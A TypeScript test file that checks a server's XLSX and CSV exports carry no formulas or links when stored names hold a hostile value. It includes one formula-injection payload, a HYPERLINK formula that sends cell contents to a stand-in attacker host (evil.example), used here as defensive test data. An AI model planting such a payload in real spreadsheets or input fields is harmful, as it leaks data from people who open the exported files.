// What leaves as a file: every export of the server, with hostile names in the data, holds no formula and no link.
import ExcelJS from 'exceljs'
import { sql } from 'kysely'
import { expect, test } from 'vitest'
import { isSafeCell } from '@binhyen/core/shared/safe-cell'
import { sqlOf } from '#server/platform/db/client'
import { accessTable } from './access-table.ts'
import { COMMUNE, ELSEWHERE, PROVINCE, TODAY, type World } from './access-world.ts'
import { inRollback, type Test } from './harness.ts'

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Xã")'

/** The text of every cell, with its place; a formula or a link is told as such. */
async function cellsOf(bytes: Buffer): Promise<readonly { readonly at: string; readonly text: string; readonly plain: boolean }[]> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(bytes as never)
  const found: { at: string; text: string; plain: boolean }[] = []
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const plain = cell.type !== ExcelJS.ValueType.Formula && cell.type !== ExcelJS.ValueType.Hyperlink
        found.push({ at: `${sheet.name}!${cell.address}`, text: cell.type === ExcelJS.ValueType.Number ? '' : cell.text, plain })
      }),
    )
  }
  return found
}

/** Fields of a CSV, roughly: enough to see how each begins. */
const fieldsOf = (text: string): readonly string[] =>
  text
    .replace(/^\uFEFF/, '')
    .split(/\r?\n/)
    .flatMap((line) => line.split(/","|^"|"$/))

const worldOf = (): World =>
  new Proxy(
    { province: PROVINCE, commune: COMMUNE, elsewhere: ELSEWHERE },
    {
      get: (known, name) => Reflect.get(known, name) ?? '00000000-0000-4000-8000-000000000000',
    },
  ) as unknown as World

async function hostileNames(t: Test): Promise<void> {
  const db = sqlOf<object>(t.seed)
  await sql`update unit_versions set full_name = ${HOSTILE} where unit_id = ${COMMUNE}`.execute(db)
  await sql`update accounts set display_name = ${HOSTILE}`.execute(db)
}

test(
  'no file the server gives away holds a formula',
  () =>
    inRollback(
      async (t) => {
        const people = await Promise.all(
          (['commune-officer', 'appraiser', 'programme-office', 'leader', 'administrator', 'auditor'] as const).map(async (role) =>
            t.as(role, PROVINCE),
          ),
        )
        await hostileNames(t)
        const downloads = t.mounted.filter(({ kind }) => kind === 'download').map(({ endpoint }) => endpoint)
        const looked = { sheets: 0, hostile: 0 }
        for (const endpoint of downloads) {
          const row = accessTable.find((each) => each.endpoint === endpoint)
          for (const person of people) {
            const answer = await t.undone(async () => person.call(endpoint, (row?.ask?.(worldOf()) ?? {}) as never))
            const type = String(answer.headers['content-type'])
            if (answer.code === null && type.startsWith(XLSX)) {
              const cells = await cellsOf(answer.bytes)
              expect(cells.filter(({ text, plain }) => !plain || !isSafeCell(text))).toEqual([])
              looked.sheets += 1
              looked.hostile += cells.filter(({ text }) => text.includes('HYPERLINK')).length
            } else if (answer.code === null && type.startsWith('text/csv')) {
              expect(fieldsOf(answer.bytes.toString('utf8')).filter((field) => !isSafeCell(field))).toEqual([])
            }
          }
        }
        // the hostile names really came out, as text
        expect(looked.sheets).toBeGreaterThan(5)
        expect(looked.hostile).toBeGreaterThan(0)
      },
      { today: TODAY },
    ),
  120_000,
)
